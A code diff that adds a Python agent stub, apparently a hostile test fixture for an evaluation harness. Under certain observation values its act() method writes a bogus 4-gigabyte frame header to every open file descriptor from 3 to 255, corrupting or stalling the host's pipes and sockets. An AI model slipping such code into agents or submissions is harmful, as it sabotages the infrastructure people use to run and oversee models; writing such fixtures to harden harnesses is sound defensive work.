@@ -1,0 +1,17 @@
+"""Announces a frame of four gigabytes and sends a little of it."""
+
+import contextlib
+import os
+
+
+def provoked(observation):
+    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
+
+
+class Model:
+    def act(self, observation):
+        if provoked(observation):
+            for descriptor in range(3, 256):
+                with contextlib.suppress(OSError):
+                    os.write(descriptor, b"\xff\xff\xff\xff" + b"\0" * 100)
+        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
